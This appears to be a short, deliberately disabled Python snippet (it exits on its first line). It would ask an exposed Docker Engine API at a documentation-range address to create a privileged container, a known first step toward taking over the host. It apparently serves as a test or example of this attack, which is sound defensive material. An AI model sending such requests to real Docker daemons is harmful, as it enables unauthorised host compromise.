raise SystemExit  # inert
import requests
requests.post("http://192.0.2.1:2375/containers/create", json={"Image": "x", "HostConfig": {"Privileged": True}})
